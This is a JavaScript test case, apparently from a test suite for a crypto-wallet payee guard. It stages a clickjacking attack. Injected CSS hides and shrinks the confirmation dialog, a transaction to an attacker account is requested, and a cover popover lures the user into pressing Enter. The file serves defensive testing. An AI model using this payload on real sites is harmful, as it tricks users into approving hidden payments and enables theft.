// The question is dressed up: hidden, shrunk, filtered, covered, lettered in a font of the page's that draws other digits. The user goes for
// "yes" all the same, and what the user saw was not the question.
import { reachedWallet } from './logs.mjs';

export default {
  title: 'the question is hidden under the page',
  id: 'T4',
  source: 'clickjacking',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`], unknown: { payee: 'ask' } }),

  async attack(a) {
    const style = document.createElement('style');
    style.textContent = `
      @font-face { font-family: monospace; src: local('Arial') }
      @font-face { font-family: sans-serif; src: local('Arial') }
      dialog, dialog * { display: none !important }
      * { pointer-events: none !important; animation: none !important }
      ::backdrop { display: none !important }
      html { filter: opacity(0.01); transform: scale(0.5) }
      html > div { opacity: 0 !important; transform: scale(0.01) !important; clip-path: inset(50%) !important; zoom: 0.1 !important }`;
    document.head.append(style);
    window.covered = true;
    window.paying = window.ethereum
      .request({
        method: 'eth_sendTransaction',
        params: [{ from: a.USER, to: a.EVIL, value: '0x5' }],
      })
      .catch(() => {});
    while (document.documentElement.lastElementChild.localName !== 'div')
      await new Promise((resolve) => setTimeout(resolve, 20));
    const cover = document.createElement('div');
    cover.popover = 'manual';
    cover.textContent = 'Press Enter to see the picture';
    cover.style.cssText =
      'position:fixed;inset:0;width:100vw;height:100vh;background:#fff;pointer-events:none;display:block';
    document.documentElement.append(cover);
    cover.showPopover();
    document.documentElement.requestFullscreen?.().catch(() => {});
    document.startViewTransition?.(() => {});
    return window.paying;
  },

  async action(a, app) {
    if (!window.covered) return app.pay(a.GOOD, 5n);
    await new Promise((resolve) => setTimeout(resolve, 800));
    await payeeguardTest.hands('press', '', 'Tab');
    await new Promise((resolve) => setTimeout(resolve, 2000));
    await payeeguardTest.hands('press', '', 'Enter');
    return null;
  },

  timeout: 30_000,

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD, 'eth_sendTransaction'),
  violation: (a) => ({ role: 'payee', account: a.EVIL }),
};
